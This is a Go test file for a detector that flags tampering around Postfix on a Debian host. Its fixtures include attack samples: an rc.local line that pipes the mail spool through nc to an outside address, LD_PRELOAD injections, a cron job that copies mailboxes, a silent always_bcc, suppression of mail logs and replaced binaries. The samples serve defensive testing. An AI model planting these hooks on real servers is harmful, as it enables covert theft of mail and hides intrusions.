package surroundings_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"waxseal"
	"waxseal/internal/mask"
	"waxseal/internal/snapshot"
	"waxseal/internal/surroundings"
)

// debian is what Debian 12 has around Postfix: units, scripts and defaults as
// postfix 3.7.11-0+deb12u1, spamd 4.0.1-1 and rsyslog 8.2302 bring them, shortened.
var debian = map[string]string{
	"/usr/lib/systemd/system/postfix.service":                       "[Unit]\nDescription=Postfix Mail Transport Agent\nConflicts=sendmail.service exim4.service\n[Service]\nType=oneshot\nRemainAfterExit=yes\nExecStart=/bin/true\nExecReload=/bin/true\n[Install]\nWantedBy=multi-user.target\n",
	"/usr/lib/systemd/system/postfix@.service":                      "[Unit]\nDescription=Postfix Mail Transport Agent (instance %i)\nPartOf=postfix.service\n[Service]\nType=forking\nGuessMainPID=no\nExecStartPre=/usr/lib/postfix/configure-instance.sh %i\nExecStart=/usr/sbin/postmulti -i %i -p start\nExecStop=/usr/sbin/postmulti -i %i -p stop\nExecReload=/usr/sbin/postmulti -i %i -p reload\n[Install]\nWantedBy=multi-user.target\n",
	"/usr/lib/systemd/system/postfix-resolvconf.path":               "[Path]\nPathChanged=/etc/resolv.conf\nUnit=postfix-resolvconf.service\n",
	"/usr/lib/systemd/system/postfix-resolvconf.service":            "[Service]\nType=oneshot\nExecStart=/etc/resolvconf/update-libc.d/postfix\n",
	"/usr/lib/systemd/system/spamd.service":                         "[Service]\nType=simple\nEnvironmentFile=-/etc/default/spamd\nExecStart=/usr/sbin/spamd --pidfile=/run/spamd.pid $OPTIONS\nStandardOutput=null\nStandardError=null\n",
	"/usr/lib/systemd/system/cron.service":                          "[Service]\nExecStart=/usr/sbin/cron -f\n",
	"/usr/lib/systemd/system-generators/postfix-instance-generator": "exec:#!/bin/sh\npostconf -h multi_instance_directories\n",
	"/etc/systemd/system/multi-user.target.wants/postfix.service":   "link:/usr/lib/systemd/system/postfix.service",
	"/usr/lib/postfix/configure-instance.sh":                        "exec:#!/bin/sh -e\n. /etc/default/postfix\n",
	"/usr/lib/postfix/sbin/cleanup":                                 "exec:\x7fELF…",
	"/usr/lib/postfix/sbin/postfix-script":                          "exec:#!/bin/sh\n",
	"/usr/sbin/postfix":                                             "exec:\x7fELF…",
	"/usr/sbin/postmulti":                                           "exec:\x7fELF…",
	"/usr/sbin/sendmail":                                            "exec:\x7fELF…",
	"/usr/sbin/spamd":                                               "exec:#!/usr/bin/perl -T\n",
	"/usr/lib/sendmail":                                             "link:../sbin/sendmail",
	"/usr/bin/mailq":                                                "link:../sbin/sendmail",
	"/bin/true":                                                     "exec:\x7fELF…",
	"/etc/init.d/postfix":                                           "exec:#!/bin/sh -e\nDAEMON=/usr/sbin/postfix\n. /lib/lsb/init-functions\n",
	"/etc/network/if-up.d/postfix":                                  "exec:#!/bin/sh\nif [ -x /usr/sbin/postfix ]; then /usr/sbin/sendmail -q; fi\n",
	"/etc/resolvconf/update-libc.d/postfix":                         "exec:#!/bin/sh\ncp /etc/resolv.conf /var/spool/postfix/etc/resolv.conf\npostfix reload\n",
	"/etc/default/spamd":                                            "# comment\nOPTIONS=\"--create-prefs --max-children 5 --helper-home-dir\"\nPIDFILE=\"/run/spamd.pid\"\n",
	"/etc/ld.so.conf":                                               "include /etc/ld.so.conf.d/*.conf\n",
	"/etc/ld.so.conf.d/libc.conf":                                   "# libc default configuration\n/usr/local/lib\n",
	"/etc/ld.so.conf.d/x86_64-linux-gnu.conf":                       "# Multiarch support\n/usr/local/lib/x86_64-linux-gnu\n/lib/x86_64-linux-gnu\n/usr/lib/x86_64-linux-gnu\n",
	"/etc/environment":                                              "PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:/usr/games:/usr/local/games\"\n",
	"/etc/nsswitch.conf":                                            "passwd:         files systemd\nhosts:          files mdns4_minimal [NOTFOUND=return] dns\n",
	"/etc/hosts":                                                    "127.0.0.1\tlocalhost\n127.0.1.1\tmail.example.test mail\n::1 ip6-localhost\n",
	"/etc/rsyslog.conf":                                             "module(load=\"imuxsock\") # provides support for local system logging\n$FileOwner root\n$IncludeConfig /etc/rsyslog.d/*.conf\n*.*;auth,authpriv.none\t\t-/var/log/syslog\nmail.*\t\t\t\t-/var/log/mail.log\n*.emerg\t\t\t\t:omusrmsg:*\n",
	"/etc/rsyslog.d/postfix.conf":                                   "# Create an additional socket in postfix's chroot\n$AddUnixListenSocket /var/spool/postfix/dev/log\n",
	"/etc/systemd/journald.conf":                                    "[Journal]\n#Storage=auto\n",
	"/etc/crontab":                                                  "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
	"/etc/cron.daily/spamassassin":                                  "exec:#!/bin/sh\n[ -x /usr/bin/sa-update ] || exit 0\n",
	"/etc/apt/apt.conf.d/70debconf":                                 "DPkg::Pre-Install-Pkgs {\"/usr/sbin/dpkg-preconfigure --apt || true\";};\n",
	"/var/lib/dpkg/diversions":                                      "/usr/share/man/man1/sh.1.gz\n/usr/share/man/man1/sh.distrib.1.gz\ndash\n",
}

// tree makes a tree of contents: "link:" begins the target of a symbolic link,
// "exec:" the content of a file that may be executed, "dir:" is a directory.
func tree(files ...map[string]string) *snapshot.Tree {
	objects := map[waxseal.Path]snapshot.Object{}
	for _, set := range files {
		for p, content := range set {
			o := snapshot.Object{File: waxseal.File{Mode: 0o644}, Content: []byte(content)}
			if target, ok := strings.CutPrefix(content, "link:"); ok {
				o = snapshot.Object{File: waxseal.File{Type: waxseal.Symlink, Mode: 0o777, Link: target}}
			} else if body, ok := strings.CutPrefix(content, "exec:"); ok {
				o = snapshot.Object{File: waxseal.File{Mode: 0o755}, Content: []byte(body)}
			}
			objects[waxseal.Path(p)] = o
		}
	}
	return snapshot.New(objects)
}

// packaged is a package database that brought the files of debian, of which those
// in changed are others now.
func packaged(changed map[string]string) surroundings.About {
	return func(p waxseal.Part) waxseal.Part {
		_, brought := debian[string(p.Path)]
		_, other := changed[string(p.Path)]
		switch {
		case brought && other:
			p.Package, p.PackageState = "postfix", waxseal.PackageModified
		case brought:
			p.Package, p.PackageState = "postfix", waxseal.PackageUnmodified
		default:
			p.PackageState = waxseal.PackageUnowned
		}
		return p
	}
}

func read(t *testing.T, changed map[string]string) surroundings.Result {
	t.Helper()
	return surroundings.Read(tree(debian, changed), mask.New([]byte("key")), packaged(changed))
}

// said is a hook in one line, for comparing.
func said(h waxseal.Hook) string {
	return fmt.Sprintf("%s %v %s %s=%s", h.Kind, h.Active, h.ID, h.Target.Type, h.Target.Value)
}

// TestDefaults: what packages bring is parts and settings, and no hook, whether a
// package database says so or there is none.
func TestDefaults(t *testing.T) {
	for name, about := range map[string]surroundings.About{"with a database": packaged(nil), "without": nil} {
		got := surroundings.Read(tree(debian), mask.New([]byte("key")), about)
		for _, h := range got.Hooks {
			t.Errorf("%s: %s: %s", name, said(h), h.Explain)
		}
		if len(got.Problems) > 0 {
			t.Errorf("%s: problems: %v", name, got.Problems)
		}
		for _, want := range []waxseal.Path{
			"/usr/lib/systemd/system/postfix@.service", "/usr/lib/postfix/configure-instance.sh", "/usr/lib/systemd/system-generators/postfix-instance-generator",
			"/etc/network/if-up.d/postfix", "/etc/resolvconf/update-libc.d/postfix", "/etc/init.d/postfix", "/etc/default/spamd", "/usr/sbin/spamd", "/etc/rsyslog.conf",
			"/usr/lib/postfix/sbin/cleanup", "/etc/ld.so.conf.d/libc.conf", "/etc/nsswitch.conf",
		} {
			if !slices.ContainsFunc(got.Parts, func(p waxseal.Part) bool { return p.Path == want }) {
				t.Errorf("%s: %s is in no mail set: a change of it would not be seen", name, want)
			}
		}
	}
}

// TestHooks: one change each to Debian's defaults. Want are the hooks that it
// makes, in any order, each by words that its line must have.
func TestHooks(t *testing.T) {
	const unit = "/etc/systemd/system/postfix@-.service.d/x.conf"
	for _, tc := range []struct {
		name  string
		files map[string]string
		want  []string
	}{
		// systemd
		{"limits only", map[string]string{unit: "[Service]\nLimitNOFILE=65536\nRestart=on-failure\nMemoryMax=1G\nTasksMax=200\nEnvironment=TZ=Europe/Berlin\n"}, nil},
		{"preload", map[string]string{unit: "[Service]\nEnvironment=LD_PRELOAD=/usr/lib/x.so TZ=UTC\n"}, []string{"environment true host:" + unit + ":postfix@-.service:Environment:LD_PRELOAD text=LD_PRELOAD=/usr/lib/x.so"}},
		{"preload, quoted and folded", map[string]string{unit: "[Service]\nEnvironment=\"TZ=UTC\" \\\n# a comment\n  'LD_\\x50RELOAD=/tmp/a b.so'\n"}, []string{"LD_PRELOAD=/tmp/a b.so"}},
		{"preload taken back", map[string]string{unit: "[Service]\nEnvironment=LD_PRELOAD=/x.so\nEnvironment=\n"}, nil},
		{"preload outside a section", map[string]string{unit: "Environment=LD_PRELOAD=/x.so\n"}, nil},
		{"preload in a comment", map[string]string{unit: "[Service]\n#Environment=LD_PRELOAD=/x.so\n;Environment=LD_PRELOAD=/x.so\n"}, nil},
		{"no drop-in by name", map[string]string{"/etc/systemd/system/postfix@-.service.d/x.conf.bak": "[Service]\nEnvironment=LD_PRELOAD=/x.so\n"}, nil},
		{"of the template", map[string]string{"/etc/systemd/system/postfix@.service.d/x.conf": "[Service]\nEnvironment=LD_AUDIT=/x.so\n"}, []string{"LD_AUDIT"}},
		{"of another instance", map[string]string{"/etc/systemd/system/postfix@out.service.d/x.conf": "[Service]\nExecStartPre=/opt/x\n"}, []string{"host:/etc/systemd/system/postfix@out.service.d/x.conf:postfix@out.service:ExecStartPre command=/opt/x"}},
		{"of all services", map[string]string{"/etc/systemd/system/service.d/x.conf": "[Service]\nEnvironment=LD_PRELOAD=/x.so\n"}, []string{":postfix.service:", ":postfix@-.service:", ":spamd.service:", ":postfix-resolvconf.service:"}},
		{"by a prefix with a dash", map[string]string{"/run/systemd/system/postfix-.service.d/x.conf": "[Service]\nExecStartPost=/bin/sh -c 'id > /tmp/x'\n"}, []string{"postfix-resolvconf.service:ExecStartPost command=/bin/sh -c id > /tmp/x"}},
		{"masked drop-in", map[string]string{unit: "link:/dev/null", "/usr/local/lib/systemd/system/postfix@-.service.d/x.conf": "[Service]\nExecStartPre=/opt/x\n"}, nil},
		{"another start", map[string]string{unit: "[Service]\nExecStart=\nExecStart=/usr/local/sbin/postmulti -i %i -p start\n"}, []string{"unit true host:" + unit + ":postfix@-.service:ExecStart command=/usr/local/sbin/postmulti -i - -p start"}},
		{"the same start", map[string]string{unit: "[Service]\nExecStart=\nExecStart=/usr/sbin/postmulti -i %i -p start\n"}, nil},
		{"full copy with one line more", map[string]string{"/etc/systemd/system/postfix@.service": debian["/usr/lib/systemd/system/postfix@.service"] + "[Service]\nExecStartPost=+/usr/lib/.x/up\n"}, []string{"/etc/systemd/system/postfix@.service:postfix@-.service:ExecStartPost command=/usr/lib/.x/up"}},
		{"packaged unit edited in place", map[string]string{"/usr/lib/systemd/system/postfix@.service": strings.Replace(debian["/usr/lib/systemd/system/postfix@.service"], "[Install]", "ExecStartPost=/opt/up\n[Install]", 1)},
			[]string{"ExecStartPost command=/opt/up", "ExecStartPre", "ExecStart ", "ExecStop ", "ExecReload "}},
		{"unit of another name runs sendmail", map[string]string{"/etc/systemd/system/queue.service": "[Service]\nUser=www-data\nExecStart=/usr/sbin/sendmail -q15m\n", "/etc/systemd/system/multi-user.target.wants/queue.service": "link:../queue.service"}, []string{"unit true host:/etc/systemd/system/queue.service:queue.service:ExecStart command=/usr/sbin/sendmail -q15m"}},
		{"such a unit that nothing starts", map[string]string{"/etc/systemd/system/queue.service": "[Service]\nExecStart=/usr/sbin/sendmail -q15m\n"}, []string{"unit false host:/etc/systemd/system/queue.service"}},
		{"started by a timer", map[string]string{"/etc/systemd/system/q.service": "[Service]\nExecStart=/usr/sbin/postmap /etc/postfix/x\n", "/etc/systemd/system/q.timer": "[Timer]\nOnCalendar=daily\n", "/etc/systemd/system/timers.target.wants/q.timer": "link:../q.timer"}, []string{"unit true host:/etc/systemd/system/q.service"}},
		{"a unit that has nothing to do with mail", map[string]string{"/etc/systemd/system/web.service": "[Service]\nEnvironment=LD_PRELOAD=/x.so\nExecStart=/usr/sbin/nginx\n", "/etc/systemd/system/multi-user.target.wants/web.service": "link:../web.service"}, nil},
		{"masked unit", map[string]string{"/etc/systemd/system/spamd.service": "link:/dev/null"}, nil},
		{"bind over the configuration", map[string]string{unit: "[Service]\nBindReadOnlyPaths=/var/lib/x:/etc/postfix\n"}, []string{"unit true host:" + unit + ":postfix@-.service:BindReadOnlyPaths:/etc/postfix text=/var/lib/x:/etc/postfix"}},
		{"bind of something else", map[string]string{unit: "[Service]\nBindPaths=/srv/vmail:/srv/mail -/data\nReadWritePaths=/srv\n"}, nil},
		{"another root", map[string]string{unit: "[Service]\nRootDirectory=/srv/root\n"}, []string{"RootDirectory"}},
		{"another user", map[string]string{"/etc/systemd/system/spamd.service.d/u.conf": "[Service]\nUser=root\n"}, []string{"User text=root"}},
		{"log to nowhere", map[string]string{unit: "[Service]\nStandardOutput=null\nLogLevelMax=err\n"}, []string{"log true host:" + unit + ":postfix@-.service:StandardOutput file=/dev/null", "LogLevelMax text=err"}},
		{"log as ever", map[string]string{unit: "[Service]\nStandardOutput=journal\nLogLevelMax=debug\n"}, nil},
		{"environment file in a hidden place", map[string]string{unit: "[Service]\nEnvironmentFile=-/var/tmp/.e\n", "/var/tmp/.e": "export LD_PRELOAD='/x.so'\nA=b\n"}, []string{"EnvironmentFile:/var/tmp/.e file=/var/tmp/.e", "EnvironmentFile:LD_PRELOAD text=LD_PRELOAD=/x.so"}},
		{"environment file with options", map[string]string{unit: "[Service]\nEnvironmentFile=-/etc/default/postfix\n", "/etc/default/postfix": "OPTIONS=-v\n"}, nil},
		{"default file edited", map[string]string{"/etc/default/spamd": "OPTIONS=\"-d\"\nPERL5LIB=/opt/p\n"}, []string{"spamd.service:EnvironmentFile:PERL5LIB", "the start of spamd:/etc/default:PERL5LIB"}},
		{"what a generator makes of an init script", map[string]string{"/run/systemd/generator.late/postfix.service": "[Service]\nExecStart=/etc/init.d/postfix start\n"}, nil},
		{"what a generator makes of another", map[string]string{"/run/systemd/generator.late/exim4.service": "[Service]\nExecStart=/etc/init.d/exim4 start\n", "/etc/init.d/exim4": "exec:#!/bin/sh\n"}, []string{"exim4.service:ExecStart command=/etc/init.d/exim4 start", "/etc/init.d/exim4:script"}},
		{"generator", map[string]string{"/etc/systemd/system-generators/a": "exec:#!/bin/sh\n"}, []string{"generator command=/etc/systemd/system-generators/a"}},
		{"masked generator", map[string]string{"/etc/systemd/system-generators/a": "link:/dev/null"}, nil},
		{"generator of the package replaced", map[string]string{"/usr/lib/systemd/system-generators/postfix-instance-generator": "exec:#!/bin/sh\nid\n"}, []string{"generator command=/usr/lib/systemd/system-generators/postfix-instance-generator"}},
		{"manager's environment", map[string]string{"/etc/systemd/system.conf.d/x.conf": "[Manager]\nDefaultEnvironment=LD_PRELOAD=/x.so\nDefaultLimitNOFILE=1024\n"}, []string{"DefaultEnvironment:LD_PRELOAD"}},
		// init scripts and jobs
		{"script for interfaces edited", map[string]string{"/etc/network/if-up.d/postfix": "exec:#!/bin/sh\n/usr/sbin/sendmail -q\n/opt/x\n"}, []string{"script true host:/etc/network/if-up.d/postfix:script"}},
		{"a command in a sourced file", map[string]string{"/etc/default/postfix": "SYNC_CHROOT=y\nX=$(/opt/x)\n"}, []string{"sourced command=X=$(/opt/x)"}},
		{"values over lines and quotes in a sourced file", map[string]string{"/etc/default/postfix": "SYNC_CHROOT=y # comment; id\nexport A='b; c'\nB=\"x y\n  z\"\nC=a\\\nb\nexport A B\n"}, nil},
		{"rc.local reads mail", map[string]string{"/etc/rc.local": "exec:#!/bin/sh\ntar c /var/spool/postfix | nc 203.0.113.1 9\n"}, []string{"script true host:/etc/rc.local:script"}},
		{"cron job that reads mailboxes", map[string]string{"/etc/cron.d/backup": "*/5 * * * * root cp -a /var/mail /srv/.m\n"}, []string{"script true host:/etc/cron.d/backup:cron:cp -a /var/mail /srv/.m command="}},
		{"cron job whose script edits main.cf", map[string]string{"/var/spool/cron/crontabs/root": "@daily /usr/local/sbin/fix\n", "/usr/local/sbin/fix": "exec:#!/bin/sh\npostconf -e always_bcc=x@example.net\n"}, []string{"host:/var/spool/cron/crontabs/root:cron"}},
		{"cron job that rebuilds maps", map[string]string{"/etc/cron.d/maps": "0 * * * * root postmap /etc/postfix/relay && systemctl reload postfix\n"}, nil},
		{"cron file that cron does not read", map[string]string{"/etc/cron.d/backup.dpkg-old": "* * * * * root cp -a /var/mail /srv/.m\n"}, nil},
		{"cron job in a comment", map[string]string{"/etc/cron.d/backup": "# * * * * * root cp -a /var/mail /srv/.m\n"}, nil},
		{"cron environment", map[string]string{"/etc/cron.d/mail": "LD_PRELOAD=/x.so\n* * * * * root newaliases\n"}, []string{"cron:LD_PRELOAD"}},
		{"apt hook", map[string]string{"/etc/apt/apt.conf.d/99x": "DPkg::Post-Invoke {\n \"cp /root/m /etc/postfix/main.cf\";\n};\n"}, []string{"DPkg::Post-Invoke"}},
		{"apt hook about something else", map[string]string{"/etc/apt/apt.conf.d/99x": "DPkg::Post-Invoke {\"needrestart\";};\n"}, nil},
		{"inetd", map[string]string{"/etc/inetd.conf": "#smtp stream tcp nowait root /x x\nsmtp stream tcp nowait mail /opt/smtpd smtpd -x\n"}, []string{"unit true host:/etc/inetd.conf:smtp command=/opt/smtpd -x"}},
		{"xinetd, disabled", map[string]string{"/etc/xinetd.d/smtp": "service smtp\n{\n disable = yes\n user = root\n server = /opt/smtpd\n}\n"}, []string{"unit false host:/etc/xinetd.d/smtp:smtp command=/opt/smtpd"}},
		// loader and environment
		{"ld.so.preload", map[string]string{"/etc/ld.so.preload": "# x\n/lib/a.so:/lib/b.so # c\n", "/lib/a.so": "\x7fELF…"}, []string{"environment true host:/etc/ld.so.preload:/lib/a.so file=/lib/a.so", "environment false host:/etc/ld.so.preload:/lib/b.so"}},
		{"empty ld.so.preload", map[string]string{"/etc/ld.so.preload": "\n# nothing\n"}, nil},
		{"a directory of libraries", map[string]string{"/etc/ld.so.conf.d/00.conf": "/opt/l\n", "/opt/l/libc.so.6": "x", "/usr/lib/x86_64-linux-gnu/libc.so.6": "x"}, []string{"environment true host:/etc/ld.so.conf.d/00.conf:/opt/l file=/opt/l"}},
		{"a directory of a vendor", map[string]string{"/etc/ld.so.conf.d/mariadb.conf": "/usr/lib64/mariadb\n"}, nil},
		{"/etc/environment", map[string]string{"/etc/environment": "LD_LIBRARY_PATH=/opt/l\nLANG=C\n"}, []string{"LD_LIBRARY_PATH"}},
		{"/etc/environment with another PATH", map[string]string{"/etc/environment": "PATH=/opt/evil:/usr/bin\n"}, []string{"PATH text=PATH=/opt/evil:/usr/bin"}},
		{"pam_env", map[string]string{"/etc/security/pam_env.conf": "# LD_PRELOAD DEFAULT=/y.so\nLD_PRELOAD DEFAULT=/x.so\nLANG DEFAULT=C\n"}, []string{"pam_env.conf:LD_PRELOAD text=LD_PRELOAD=/x.so"}},
		{"name service library", map[string]string{"/etc/nsswitch.conf": "hosts: files evil [NOTFOUND=return] dns\n", "/usr/lib/x86_64-linux-gnu/libnss_evil.so.2": "x"}, []string{"module true host:/etc/nsswitch.conf:hosts:evil file=/usr/lib/x86_64-linux-gnu/libnss_evil.so.2"}},
		// commands
		{"sendmail replaced", map[string]string{"/usr/sbin/sendmail": "exec:#!/bin/sh\nexec /usr/lib/s\n"}, []string{"binary true host:/usr/sbin/sendmail:command"}},
		{"sendmail linked elsewhere", map[string]string{"/usr/sbin/sendmail": "link:/opt/s", "/opt/s": "exec:\x7fELF"}, []string{"binary true host:/usr/sbin/sendmail:command"}},
		{"daemon replaced", map[string]string{"/usr/lib/postfix/sbin/cleanup": "exec:#!/bin/sh\n", "/usr/lib/postfix/sbin/cleanup.real": "exec:\x7fELF"}, []string{"binary true host:/usr/lib/postfix/sbin/cleanup:daemon", "binary false host:/usr/lib/postfix/sbin/cleanup.real:daemon"}},
		{"a command before the system's", map[string]string{"/usr/local/sbin/sendmail": "exec:#!/bin/sh\n"}, []string{"host:/usr/local/sbin/sendmail:command"}},
		{"local diversion", map[string]string{"/var/lib/dpkg/diversions": "/usr/sbin/postconf\n/usr/sbin/postconf.distrib\n:\n/usr/sbin/x\n/usr/sbin/y\n:\n"}, []string{"dpkg", "host:/var/lib/dpkg/diversions:/usr/sbin/postconf"}[1:]},
		{"a library among Dovecot's modules", map[string]string{"/usr/lib/dovecot/modules/lib99_x_plugin.so": "\x7fELF"}, []string{"plugin true host:/usr/lib/dovecot/modules/lib99_x_plugin.so"}},
		// log
		{"mail's log dropped", map[string]string{"/etc/rsyslog.d/00-x.conf": "mail.* stop\n"}, []string{"log true host:/etc/rsyslog.d/00-x.conf:mail.* file=/dev/null"}},
		{"dropped the old way", map[string]string{"/etc/rsyslog.d/00-x.conf": "mail.*\t~\n"}, []string{"log true"}},
		{"one program dropped", map[string]string{"/etc/rsyslog.d/00-x.conf": ":programname, startswith, \"postfix\" stop\n"}, []string{"log true"}},
		{"one address dropped", map[string]string{"/etc/rsyslog.d/00-x.conf": "if ($msg contains 'to=<eve@example.net>') and\n  ($programname startswith 'postfix') then {\n  stop\n}\n"}, []string{"log true"}},
		{"dropped in one line", map[string]string{"/etc/rsyslog.d/00-x.conf": "if $syslogfacility-text == 'mail' then stop\n"}, []string{"log true"}},
		{"written, then stopped", map[string]string{"/etc/rsyslog.d/00-x.conf": ":programname, startswith, \"postfix\" /var/log/postfix.log\n& stop\n"}, nil},
		{"written, then stopped, in a block", map[string]string{"/etc/rsyslog.d/00-x.conf": "if $programname startswith 'postfix' then {\n  action(type=\"omfile\" file=\"/var/log/postfix.log\")\n  stop\n}\n"}, nil},
		{"written nowhere, then stopped", map[string]string{"/etc/rsyslog.d/00-x.conf": "if $programname startswith 'postfix' then {\n  action(type=\"omfile\" file=\"/dev/null\")\n  stop\n}\n"}, []string{"log true"}},
		{"dropped after it was written", map[string]string{"/etc/rsyslog.conf": "mail.* -/var/log/mail.log\nmail.* stop\n*.* /var/log/syslog\n"}, nil},
		{"another program dropped", map[string]string{"/etc/rsyslog.d/00-x.conf": ":msg, contains, \"[UFW \" stop\nif $programname == 'CRON' then stop\n"}, nil},
		{"a program gets the log", map[string]string{"/etc/rsyslog.d/00-x.conf": "mail.* action(type=\"omprog\" binary=\"/opt/x -v\")\n"}, []string{"log true host:/etc/rsyslog.d/00-x.conf:program:mail.* command=/opt/x -v"}},
		{"sent to a central host", map[string]string{"/etc/rsyslog.d/00-x.conf": "mail.* @@logs.example.test:514\n"}, nil},
		{"commented", map[string]string{"/etc/rsyslog.d/00-x.conf": "#mail.* stop\n/* mail.* stop\n*/\n"}, nil},
		{"no journal", map[string]string{"/etc/systemd/journald.conf.d/x.conf": "[Journal]\nStorage=none\n"}, []string{"Storage text=none"}},
		{"a smaller journal", map[string]string{"/etc/systemd/journald.conf.d/x.conf": "[Journal]\nStorage=volatile\nSystemMaxUse=1G\nMaxLevelStore=info\n"}, nil},
		// chroot
		{"other name servers in the chroot", map[string]string{"/etc/resolv.conf": "nameserver 192.0.2.1\n", "/var/spool/postfix/etc/resolv.conf": "nameserver 203.0.113.66\n"}, []string{"hosts true host:/var/spool/postfix/etc/resolv.conf:nameserver 203.0.113.66"}},
		{"the same in the chroot", map[string]string{"/etc/resolv.conf": "# by hand\nnameserver  192.0.2.1\n", "/var/spool/postfix/etc/resolv.conf": "nameserver 192.0.2.1 # x\n"}, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := read(t, tc.files)
			var lines []string
			for _, h := range got.Hooks {
				lines = append(lines, said(h))
				if !watched(h.Source.Path) {
					t.Errorf("%s lies in none of the places that are watched", h.Source.Path)
				}
				if h.Explain == "" || h.Directive == "" || h.Closure == nil || h.Effects == nil {
					t.Errorf("incomplete: %+v", h)
				}
			}
			if len(lines) != len(tc.want) {
				t.Errorf("%d hooks, want %d", len(lines), len(tc.want))
			}
			for _, want := range tc.want {
				if !slices.ContainsFunc(lines, func(l string) bool { return strings.Contains(l, want) }) {
					t.Errorf("no hook with %q", want)
				}
			}
			if t.Failed() {
				t.Log(strings.Join(lines, "\n"))
			}
		})
	}
}

// watched reports whether a new file would be noticed, or is one that a package
// has there from the start.
func watched(p waxseal.Path) bool {
	_, packaged := debian[string(p)]
	return packaged || slices.ContainsFunc(surroundings.Places(), func(w waxseal.Path) bool {
		return p == w || strings.HasPrefix(string(p), string(w)+"/")
	}) || strings.HasPrefix(string(p), "/var/tmp/") // what a unit names; it is a file of the state
}

// TestConfigDirectories: what the host gives to Postfix as its configuration.
func TestConfigDirectories(t *testing.T) {
	got := read(t, map[string]string{
		"/etc/systemd/system/postfix@-.service.d/x.conf": "[Service]\nEnvironment=MAIL_CONFIG=/etc/pf-unit\n",
		"/etc/systemd/system/out.service":                "[Service]\nExecStart=/usr/sbin/postfix -c /etc/pf-out start\n",
		"/etc/cron.d/q":                                  "* * * * * root /usr/sbin/sendmail -C/etc/pf-cron -q; postqueue -c /etc/pf-cron2 -f\n",
		"/etc/init.d/sendmail2":                          "exec:#!/bin/sh\nMAIL_CONFIG=/etc/pf-init /usr/sbin/postfix start\n",
		"/etc/default/postfix":                           "MAIL_CONFIG='/etc/pf-default'\n",
	})
	want := map[waxseal.Path]bool{"/etc/pf-unit": true, "/etc/pf-out": false, "/etc/pf-cron": true, "/etc/pf-cron2": true, "/etc/pf-init": true, "/etc/pf-default": true}
	for _, c := range got.ConfigDirectories {
		active, known := want[c.Path]
		if !known || active != c.Active || c.Why == "" || c.Source.Path == "" {
			t.Errorf("%+v", c)
		}
		delete(want, c.Path)
	}
	if len(want) > 0 {
		t.Errorf("not found: %v", want)
	}
}

// TestHosts: an entry matters where the mail path rests on its name.
func TestHosts(t *testing.T) {
	files := tree(map[string]string{
		"/etc/hosts":                   "127.0.0.1 localhost\n203.0.113.9\tMX.example.net. relay # x\n203.0.113.10 mx.example.net\nnonsense relay2\n192.0.2.7 other.example.net\n",
		"/var/spool/postfix/etc/hosts": "203.0.113.66 localhost relay2\n",
	})
	got := surroundings.Hosts(files, []surroundings.Name{{Host: "mx.example.net"}, {Host: "relay2", Consulted: true}, {Host: "localhost", Consulted: true}, {Host: "192.0.2.7", Consulted: true}, {Host: ""}})
	var lines []string
	for _, h := range got {
		lines = append(lines, said(h))
	}
	want := []string{
		"hosts false host:/etc/hosts:mx.example.net host=[203.0.113.9]",
		"hosts true host:/var/spool/postfix/etc/hosts:localhost host=[203.0.113.66]",
		"hosts true host:/var/spool/postfix/etc/hosts:relay2 host=[203.0.113.66]",
	}
	if !slices.Equal(lines, want) {
		t.Errorf("got\n%s\nwant\n%s", strings.Join(lines, "\n"), strings.Join(want, "\n"))
	}
}

// TestSecrets: a password in an environment is nobody's to read.
func TestSecrets(t *testing.T) {
	got := read(t, map[string]string{"/etc/systemd/system/postfix@-.service.d/x.conf": "[Service]\nEnvironment=DB_PASSWORD=hunter2 MAIL_CONFIG=/etc/x\nEnvironmentFile=/etc/default/postfix\nExecStartPre=/opt/x --password=hunter2\n",
		"/etc/default/postfix": "SECRET=hunter2\n"})
	if all := fmt.Sprintf("%+v", got); strings.Contains(all, "hunter2") {
		t.Error(all)
	}
}
